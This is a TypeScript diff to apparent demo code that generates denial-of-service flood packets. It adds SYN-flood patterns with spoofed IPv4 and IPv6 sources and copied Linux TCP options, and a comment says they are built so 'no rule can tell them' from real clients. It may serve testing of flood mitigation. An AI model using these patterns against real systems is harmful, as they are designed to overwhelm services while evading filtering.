@@ -31,6 +31,11 @@ function source4(bases: readonly number[], hostBits: number, checksums: Patch['c
   return { offset: SRC4, choices: bases, mask: 2 ** hostBits - 1, checksums }
 }
 
+const source6 = (): Patch[] => [
+  word(SRC6, [0x2a000000, 0x2a010000, 0x26000000, 0x24000000], 0xffff),
+  word(SRC6 + 12, [0], 0xffffffff),
+]
+
 function word(offset: number, choices: readonly number[], mask = 0): Patch {
   return { offset, choices, mask, checksums: 'l4' }
 }
@@ -85,11 +90,7 @@ function junk6(target: Target): Pattern {
     name: 'junk-udp6',
     weight: 4,
     template: frame(target, ipv6({ src: '2a00::', dst: target.ipv6 }), udp({ dstport: 9 }), 'x'.repeat(26)),
-    patches: [
-      word(SRC6, [0x2a000000, 0x2a010000, 0x26000000, 0x24000000], 0xffff),
-      word(SRC6 + 12, [0], 0xffffffff),
-      word(L4_V6, [ports(1024, 1024)], 0xffffffff),
-    ],
+    patches: [...source6(), word(L4_V6, [ports(1024, 1024)], 0xffffffff)],
     l4ChecksumAt: L4_V6 + 6,
   }
 }
@@ -139,13 +140,50 @@ function syn(target: Target): Pattern {
     name: 'syn',
     weight: 4,
     template: frame(target, ipv4({ dst: target.ipv4 }), tcp({ dstport: 80, flags: 0x02, window: 1024 })),
-    patches: [source4(ANYWHERE, 24, 'both'), word(L4, [ports(1024, 80)], 0xffff0000), word(L4 + 4, [0], 0xffffffff)],
+    patches: [source4(ANYWHERE, 24, 'both'), ...synPatches(L4)],
     ipChecksumAt: IP + 10,
     l4ChecksumAt: L4 + 16,
   }
 }
 
+/** A port and a sequence number. */
+const synPatches = (l4: number): Patch[] => [word(l4, [ports(1024, 80)], 0xffff0000), word(l4 + 4, [0], 0xffffffff)]
+
+/** What Linux sends: MSS 1460, SACK, a timestamp, NOP, window scale 7. */
+const LINUX_OPTIONS = Uint8Array.of(2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7)
+const TIMESTAMP = 20 + 8
+
+/** Requests as a real client's, but for their sources: no rule can tell them. */
+function synLinux(target: Target): Pattern {
+  const request = tcp({ dstport: 80, flags: 0x02, window: 64_240, options: LINUX_OPTIONS })
+  return {
+    name: 'syn-linux',
+    weight: 2,
+    template: frame(target, ipv4({ dst: target.ipv4 }), request),
+    patches: [source4(ANYWHERE, 24, 'both'), ...synPatches(L4), word(L4 + TIMESTAMP, [0], 0xffffffff)],
+    ipChecksumAt: IP + 10,
+    l4ChecksumAt: L4 + 16,
+  }
+}
+
+/** The same over IPv6. */
+function synLinux6(target: Target): Pattern {
+  const request = tcp({ dstport: 80, flags: 0x02, window: 64_800, options: LINUX_OPTIONS })
+  return {
+    name: 'syn-linux6',
+    weight: 2,
+    template: frame(target, ipv6({ src: '2a00::', dst: target.ipv6 }), request),
+    patches: [...source6(), ...synPatches(L4_V6), word(L4_V6 + TIMESTAMP, [0], 0xffffffff)],
+    l4ChecksumAt: L4_V6 + 16,
+  }
+}
+
+/** Names of the patterns of a flood of SYNs. */
+export const SYN_PATTERNS = ['syn-linux', 'syn-linux6']
+
 /** Every pattern of the demo's attack. */
 export function allPatterns(target: Target): Pattern[] {
-  return [reflection, junk, junk6, dnsBotnet, dnsRandomNames, fragments, syn].map((make) => make(target))
+  return [reflection, junk, junk6, dnsBotnet, dnsRandomNames, fragments, syn, synLinux, synLinux6].map((make) =>
+    make(target),
+  )
 }
